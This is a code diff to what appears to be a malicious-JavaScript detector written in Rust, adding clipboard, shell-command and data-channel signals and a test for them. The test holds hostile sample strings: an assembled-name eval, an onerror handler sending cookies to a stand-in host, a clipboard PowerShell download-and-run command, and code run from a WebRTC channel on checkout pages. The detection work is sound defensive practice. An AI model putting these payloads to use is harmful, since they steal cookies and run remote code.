@@ -462,8 +462,16 @@ pub fn added_features(
 pub const LOCAL_MAX_TOKENS: usize = FLOW_MAX_TOKENS;
 
 /// Signals of code that can do harm on its own.
-const HARMFUL: Signals =
-    SINKS | SINK_SRC_ATTR | DYN_EVAL | MINER | REDIRECT | POPUP | WORKER | WASM | DECODED_NAME;
+const HARMFUL: Signals = SINKS
+    | SINK_SRC_ATTR
+    | DYN_EVAL
+    | MINER
+    | REDIRECT
+    | POPUP
+    | WORKER
+    | WASM
+    | DECODED_NAME
+    | CLIPBOARD;
 
 /// The outermost units of at most [`LOCAL_MAX_TOKENS`] tokens (and big units with none
 /// inside), in order.
@@ -740,6 +748,11 @@ fn reasons(f: &Features) -> Vec<String> {
         DECODED_NAME,
         HIDDEN_TEXT,
         BUILT_URL,
+        MARKUP_CODE,
+        SINK_RTC,
+        SINK_HINT,
+        CLIPBOARD,
+        SHELL_COMMAND,
     ] {
         if f.signals & bit != 0 {
             r.push(signals::describe(bit).to_owned());
@@ -937,6 +950,43 @@ mod tests {
             0,
             "a map keyed by a decoded name is ordinary"
         );
+    }
+
+    /// A name assembled from pieces is a hidden name; markup written with script in it,
+    /// a command put on the clipboard and code run from a data channel are seen.
+    #[test]
+    fn assembled_names_markup_code_and_channels_are_seen() {
+        let ctx = Context::default();
+        let split = r#"var c = document.title; window["ev" + "al"](c);"#;
+        let s = features(&analyse(split), None, ctx).signals;
+        assert_ne!(s & DYN_EVAL, 0, "eval reached by an assembled name");
+        assert_ne!(s & DECODED_NAME, 0);
+        let dynamic = "var k = 'on' + e.type; el[k] = f;";
+        assert_eq!(
+            features(&analyse(dynamic), None, ctx).signals & DECODED_NAME,
+            0
+        );
+        let markup = r#"document.body.innerHTML += '<img src="x" onerror="fetch(' + "'https://m.invalid/'" + '+document.cookie)">';"#;
+        let f = features(&analyse(markup), None, ctx);
+        assert_ne!(f.signals & MARKUP_CODE, 0);
+        assert_ne!(f.signals & SINK_FETCH, 0);
+        let clickfix = r#"document.getElementById("ok").onclick = function () {
+              navigator.clipboard.writeText('powershell -c "iwr https://x.invalid/a.ps1 | iex"');
+              document.body.appendChild(document.createElement("div"));
+            };"#;
+        let v = classify("c.js", &analyse(clickfix), None, ctx);
+        assert!(v.malicious, "{v:#?}");
+        assert!(
+            v.reasons.iter().any(|r| r.contains("clipboard")),
+            "{:?}",
+            v.reasons
+        );
+        let rtc = r#"if (/checkout/.test(location.href)) {
+              var pc = new RTCPeerConnection({ iceServers: [] });
+              pc.createDataChannel("d").onmessage = function (m) { new Function(m.data)(); };
+            }"#;
+        let v = classify("r.js", &analyse(rtc), None, ctx);
+        assert!(v.malicious, "{v:#?}");
     }
 
     #[test]
